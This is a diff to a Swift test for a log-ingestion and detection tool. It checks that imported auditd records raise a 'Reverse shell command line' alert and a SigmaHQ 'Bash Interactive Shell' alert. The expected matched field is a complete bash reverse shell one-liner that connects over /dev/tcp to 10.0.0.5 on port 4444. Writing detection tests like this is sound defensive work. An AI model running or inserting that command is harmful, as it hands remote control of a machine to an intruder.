@@ -26,9 +26,11 @@ import VigilTooling
         #expect(imported.status == 0, "\(imported.stderr)")
         // Two raw auditd records plus the process_creation event assembled from the group.
         #expect(imported.stdout.contains("\"events_stored\":3"))
-        let raised = try alerts(scratch)
-        #expect(raised.map { $0["title"] as? String } == ["Reverse shell command line"])
+        // The default pack's SigmaHQ rules see the assembled process too.
+        let raised = try alerts(scratch, ["--rule", "Reverse shell command line"])
+        #expect(raised.count == 1)
         #expect((raised.first?["matched_fields"] as? [String: Any])?["CommandLine"] as? String == "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1")
+        #expect(try alerts(scratch).contains { $0["title"] as? String == "Bash Interactive Shell" })
     }
 
     @Test func aClamAVLogWithoutItsSummaryStillYieldsTheDetection() throws {
